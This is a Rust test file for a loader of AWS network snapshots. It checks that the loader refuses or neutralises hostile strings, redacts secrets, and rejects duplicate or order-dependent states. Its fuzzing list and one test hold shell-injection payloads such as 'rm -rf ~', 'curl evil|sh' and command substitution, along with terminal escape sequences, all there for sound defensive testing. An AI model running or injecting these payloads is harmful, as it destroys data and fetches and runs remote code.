//! Someone else's file: a snapshot attached to a ticket is loaded with hostile strings in every
//! string field (and key), and the loader must refuse it in one clean line or load something
//! whose ids are inert and whose text holds no control characters. The handed cases under
//! `mocks/cases/hostile/` are refused or masked as `/work/shared/cases/README.md` asks.

#[path = "../benches/synthetic.rs"]
mod synthetic;

use std::path::{Path, PathBuf};

use ecr_pathcheck_checks::reason::classify;
use ecr_pathcheck_checks::snapshot::{self, redact};
use proptest::prelude::*;
use serde_json::Value;

fn mocks() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../mocks")
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap()
}

/// Every string leaf and every object key of `value`, as JSON pointers (keys end with `#key`).
fn string_places(value: &Value, pointer: String, out: &mut Vec<String>) {
    match value {
        Value::String(_) => out.push(pointer),
        Value::Array(items) => {
            for (at, item) in items.iter().enumerate() {
                string_places(item, format!("{pointer}/{at}"), out);
            }
        }
        Value::Object(fields) => {
            for (key, item) in fields {
                let escaped = key.replace('~', "~0").replace('/', "~1");
                out.push(format!("{pointer}/{escaped}#key"));
                string_places(item, format!("{pointer}/{escaped}"), out);
            }
        }
        _ => {}
    }
}

const PAYLOADS: &[&str] = &[
    "$(touch${IFS}/tmp/pwned)",
    "`reboot`",
    "';rm -rf ~;'",
    "a\"b",
    "x|curl evil|sh&",
    "\u{1b}]0;title\u{7}",
    "\u{1b}[2J\u{1b}[31mred",
    "\u{9b}31m",
    "line\rover",
    "back\u{8}\u{8}space",
    "new\nline",
    "\u{202e}txt.exe",
    "zero\u{200b}width",
    "\u{0}nul",
    "ünïcødé ✓ 日本",
    "--help",
    "",
    " ",
];

/// What a field's value becomes: a payload, some random text, or a very long string; put
/// instead of, before or after the original.
fn hostile() -> impl Strategy<Value = (String, u8)> {
    let text = prop_oneof![
        4 => proptest::sample::select(PAYLOADS).prop_map(str::to_string),
        2 => "[\\x00-\\x1f\\x7f\\u{80}-\\u{9f}$`'\"\\\\;|&<>(){} a-z0-9-]{0,12}",
        1 => any::<String>().prop_map(|text| text.chars().take(24).collect()),
        1 => (1usize..4).prop_map(|n| "x".repeat(n * 40_000)),
    ];
    (text, 0u8..3)
}

/// Whether `c` would be dangerous printed raw, or pasted into a shell as part of an id.
fn is_shell_or_control(c: char) -> bool {
    c.is_control()
        || c.is_whitespace()
        || "$`'\"\\;|&<>(){}*?!#~".contains(c)
        || ('\u{200b}'..='\u{200f}').contains(&c)
        || ('\u{202a}'..='\u{202e}').contains(&c)
}

fn is_id_field(key: &str) -> bool {
    key == "id"
        || key == "arn"
        || key == "peer"
        || key == "target"
        || key == "destination"
        || key == "account_id"
        || key == "region"
        || key == "name"
        || key == "image"
        || key.ends_with("_id")
        || key.ends_with("_ids")
        || key.ends_with("_arn")
}

/// Checks what loaded: no id holds a control or shell character, no string a control character
/// but tab and newline.
fn assert_inert(value: &Value, key: &str) -> Result<(), TestCaseError> {
    match value {
        Value::String(text) => {
            if is_id_field(key) && key != "name" {
                prop_assert!(!text.chars().any(is_shell_or_control), "{key}: {text:?}");
            }
            prop_assert!(
                !text
                    .chars()
                    .any(|c| c.is_control() && c != '\n' && c != '\t'),
                "{key}: {text:?}"
            );
        }
        Value::Array(items) => {
            for item in items {
                assert_inert(item, key)?;
            }
        }
        Value::Object(fields) => {
            for (name, item) in fields {
                prop_assert!(!name.chars().any(char::is_control), "{name:?}");
                assert_inert(item, name)?;
            }
        }
        _ => {}
    }
    Ok(())
}

fn assert_clean_error(message: &str) -> Result<(), TestCaseError> {
    prop_assert!(!message.chars().any(char::is_control), "{message:?}");
    prop_assert!(
        !message
            .chars()
            .any(|c| ('\u{202a}'..='\u{202e}').contains(&c)),
        "{message:?}"
    );
    prop_assert!(message.starts_with("snapshot file "), "{message}");
    prop_assert!(message.chars().count() < 1200, "{message}");
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 384, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn hostile_strings_are_refused_cleanly_or_made_inert(
        which in 0usize..2,
        place in any::<proptest::sample::Index>(),
        (text, mode) in hostile(),
    ) {
        let source = [
            mocks().join("healthy-endpoints/snapshot.json"),
            mocks().join("cases/hostile/secrets-in-snapshot.json"),
        ];
        let mut document: Value = serde_json::from_str(&read(&source[which])).unwrap();
        let mut places = Vec::new();
        string_places(&document, String::new(), &mut places);
        let pointer = place.get(&places).clone();
        let compose = |original: &str| match mode {
            0 => text.clone(),
            1 => format!("{text}{original}"),
            _ => format!("{original}{text}"),
        };
        if let Some(key_pointer) = pointer.strip_suffix("#key") {
            let (parent, key) = key_pointer.rsplit_once('/').unwrap();
            let key = key.replace("~1", "/").replace("~0", "~");
            let fields = document.pointer_mut(parent).unwrap().as_object_mut().unwrap();
            let value = fields.remove(&key).unwrap();
            fields.insert(compose(&key), value);
        } else {
            let slot = document.pointer_mut(&pointer).unwrap();
            let original = slot.as_str().unwrap().to_string();
            *slot = Value::String(compose(&original));
        }
        let bytes = serde_json::to_vec(&document).unwrap();
        match snapshot::from_json(&bytes, Path::new("ticket.json")) {
            Err(error) => assert_clean_error(&error.to_string())?,
            Ok(loaded) => {
                let written = serde_json::to_value(&loaded).unwrap();
                assert_inert(&written, "")?;
                // What loads diagnoses, and loads again unchanged.
                let _ = ecr_pathcheck_checks::diagnose(&loaded);
                let again = snapshot::from_json(&serde_json::to_vec(&written).unwrap(), Path::new("again.json"));
                prop_assert_eq!(again.ok(), Some(loaded));
            }
        }
    }
}

fn load_case(name: &str) -> Result<snapshot::Snapshot, String> {
    snapshot::load_file(&mocks().join("cases/hostile").join(name)).map_err(|e| e.to_string())
}

#[test]
fn shell_in_an_id_is_refused_naming_the_field_and_the_shape() {
    let message = load_case("shell-in-fix-command.json").unwrap_err();
    assert!(!message.contains('\n'));
    assert!(
        message.contains(
            "security_groups[0].id is \"sg-app$(touch${IFS}/tmp/pwned)\"; expected an id of the shape sg-…"
        ),
        "{message}"
    );
}

#[test]
fn a_duplicated_security_group_is_refused_in_both_orders() {
    for name in ["duplicate-sg-order-a.json", "duplicate-sg-order-b.json"] {
        let message = load_case(name).unwrap_err();
        assert!(!message.contains('\n'));
        assert!(
            message.contains("security_groups lists \"sg-app\" more than once"),
            "{name}: {message}"
        );
    }
}

#[test]
fn no_secret_survives_loading() {
    let loaded = load_case("secrets-in-snapshot.json").unwrap();
    let written = serde_json::to_string(&loaded).unwrap();
    for secret in [
        "hunter2-splunk-token",
        "hunter2-firelens",
        "FwoGZXIvYXdzCanaryToken",
        "deadbeefcanarysignature",
    ] {
        assert!(!written.contains(secret), "{secret} survived");
    }
    for kept in [
        "\"splunk-token\":\"***\"",
        "\"HTTP_Passwd\":\"***\"",
        "\"splunk-url\":\"https://splunk.example:8088\"",
        "X-Amz-Security-Token=***&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=***",
    ] {
        assert!(written.contains(kept), "{kept} lost");
    }
    // The report is built from the loaded snapshot: it cannot quote them either.
    let report = serde_json::to_string(&ecr_pathcheck_checks::diagnose(&loaded)).unwrap();
    assert!(!report.contains("CanaryToken") && !report.contains("hunter2"));
}

/// Every stopped reason, container reason and event message of the scenarios and cases: the
/// classifier reads the masked text as it read the original.
#[test]
fn masked_reasons_classify_as_before() {
    let mut files: Vec<PathBuf> = std::fs::read_dir(mocks())
        .unwrap()
        .map(|entry| entry.unwrap().path().join("snapshot.json"))
        .filter(|path| path.is_file())
        .collect();
    files.push(mocks().join("cases/hostile/secrets-in-snapshot.json"));
    let mut reasons = Vec::new();
    for file in &files {
        let document: Value = serde_json::from_str(&read(file)).unwrap();
        collect_reasons(&document, "", &mut reasons);
    }
    assert!(reasons.len() > 20, "{}", reasons.len());
    let mut masked = 0;
    for reason in &reasons {
        let Some(cleaned) = redact::cleaned(reason) else {
            continue;
        };
        masked += 1;
        let (before, after) = (classify(reason), classify(&cleaned));
        assert_eq!(before.category, after.category, "{reason}");
        assert_eq!(before.flow, after.flow, "{reason}");
        assert_eq!(before.host, after.host, "{reason}");
        assert_eq!(before.ip, after.ip, "{reason}");
    }
    assert!(masked >= 2, "the presigned URL reasons are masked");
}

fn collect_reasons(value: &Value, key: &str, out: &mut Vec<String>) {
    match value {
        Value::String(text) if matches!(key, "stopped_reason" | "reason" | "message") => {
            out.push(text.clone())
        }
        Value::Array(items) => items
            .iter()
            .for_each(|item| collect_reasons(item, key, out)),
        Value::Object(fields) => fields
            .iter()
            .for_each(|(name, item)| collect_reasons(item, name, out)),
        _ => {}
    }
}

/// The engine benchmark's synthetic account and the live bench's 200-service sweep
/// (`mocks/live/bench.py`, ids such as `sg-two-app`) pass validation.
#[test]
fn benchmark_accounts_are_valid() {
    let account = serde_json::to_vec(&synthetic::account()).unwrap();
    snapshot::from_json(&account, Path::new("synthetic.json")).unwrap();

    let mut base: Value = serde_json::from_str(&read(
        &mocks().join("s3-prefix-list-egress-missing/snapshot.json"),
    ))
    .unwrap();
    let keys = [
        "vpcs",
        "dhcp_options",
        "subnets",
        "route_tables",
        "network_acls",
        "security_groups",
        "vpc_endpoints",
        "internet_gateways",
    ];
    let mut second = serde_json::to_string(&keys.map(|key| base[key].clone())).unwrap();
    for prefix in [
        "vpc", "subnet", "rtb", "acl", "sg", "vpce", "igw", "eni", "dopt",
    ] {
        second = second.replace(&format!("\"{prefix}-"), &format!("\"{prefix}-two-"));
    }
    let second: Vec<Value> = serde_json::from_str(&second).unwrap();
    for (key, copy) in keys.iter().zip(second) {
        if let (Some(list), Value::Array(copy)) = (base[*key].as_array_mut(), copy) {
            list.extend(copy);
        }
    }
    let template = base["services"][0].clone();
    let services: Vec<Value> = (0..200)
        .map(|n| {
            let mut service = template.clone();
            let name = format!("svc{n:03}");
            service["arn"] = template["arn"]
                .as_str()
                .unwrap()
                .replace("/web", &format!("/{name}"))
                .into();
            service["name"] = name.into();
            if n % 2 == 1 {
                service["network"]["security_group_ids"] = serde_json::json!(["sg-two-app"]);
            }
            service
        })
        .collect();
    base["services"] = services.into();
    base["tasks"] = serde_json::json!([]);
    let loaded =
        snapshot::from_json(&serde_json::to_vec(&base).unwrap(), Path::new("sweep.json")).unwrap();
    assert_eq!(loaded.services.len(), 200);
}

/// States AWS never holds, each of which made the verdict depend on the file's order: a rule
/// number twice in one ACL direction, a destination twice in one route table, a subnet in two
/// route tables. Each is refused, naming what repeats.
#[test]
fn order_dependent_duplicates_are_refused() {
    let healthy: Value =
        serde_json::from_str(&read(&mocks().join("healthy-endpoints/snapshot.json"))).unwrap();
    let refused = |change: &dyn Fn(&mut Value), expected: &str| {
        let mut value = healthy.clone();
        change(&mut value);
        let text = serde_json::to_vec(&value).unwrap();
        let error = snapshot::from_json(&text, Path::new("d.json"))
            .unwrap_err()
            .to_string();
        assert!(error.contains(expected), "{error}");
        assert!(!error.contains('\n'));
    };
    refused(
        &|v| {
            let entries = v["network_acls"][0]["entries"].as_array_mut().unwrap();
            let mut twin = entries[0].clone();
            twin["action"] = "deny".into();
            entries.push(twin);
        },
        "rule 100",
    );
    refused(
        &|v| {
            let routes = v["route_tables"][0]["routes"].as_array_mut().unwrap();
            let mut twin = routes[0].clone();
            twin["target"] = "igw-0a1".into();
            routes.push(twin);
        },
        "the routes of route table",
    );
    refused(
        &|v| {
            let subnet = v["subnets"][0]["id"].clone();
            for table in v["route_tables"].as_array_mut().unwrap().iter_mut().take(2) {
                table["subnet_ids"] = serde_json::json!([subnet.clone()]);
            }
        },
        "the route table associations",
    );
}

/// Route 53 holds one private zone per name for a VPC, one Resolver rule per domain, one record
/// set per name and type, and a CNAME alone: a file with two would make the name a VPC resolves
/// depend on the file's order, so it is refused, in both orders.
#[test]
fn conflicting_dns_answers_are_refused_in_both_orders() {
    let text = read(&mocks().join("hub-spoke-healthy/snapshot.json"));
    let base: Value = serde_json::from_str(&text).unwrap();
    let zone = base["hosted_zones"][0].clone();
    let load = |value: &Value| {
        snapshot::from_json(value.to_string().as_bytes(), Path::new("conflict.json"))
            .map_err(|error| error.to_string())
    };
    assert!(load(&base).is_ok());
    for (before, after) in [
        ("Z0000000000000000000A", "Z9999999999999999999Z"),
        ("Z9999999999999999999Z", "Z0000000000000000000A"),
    ] {
        let mut twice = base.clone();
        let mut other = zone.clone();
        twice["hosted_zones"][0]["id"] = before.into();
        other["id"] = after.into();
        twice["hosted_zones"].as_array_mut().unwrap().push(other);
        let message = load(&twice).unwrap_err();
        assert!(
            message.contains("the private hosted zones associated with vpc-"),
            "{message}"
        );
    }
    let mut records = base.clone();
    let record = zone["records"][0].clone();
    records["hosted_zones"][0]["records"]
        .as_array_mut()
        .unwrap()
        .push(record.clone());
    let message = load(&records).unwrap_err();
    assert!(message.contains("the records of hosted zone"), "{message}");
    let mut cname = base.clone();
    let mut alias = record.clone();
    alias["type"] = "CNAME".into();
    alias["values"] = serde_json::json!(["vpce-0abc.ecr.us-east-1.vpce.amazonaws.com"]);
    alias["alias_target"] = Value::Null;
    cname["hosted_zones"][0]["records"]
        .as_array_mut()
        .unwrap()
        .push(alias);
    let message = load(&cname).unwrap_err();
    assert!(message.contains("a CNAME stands alone"), "{message}");
}
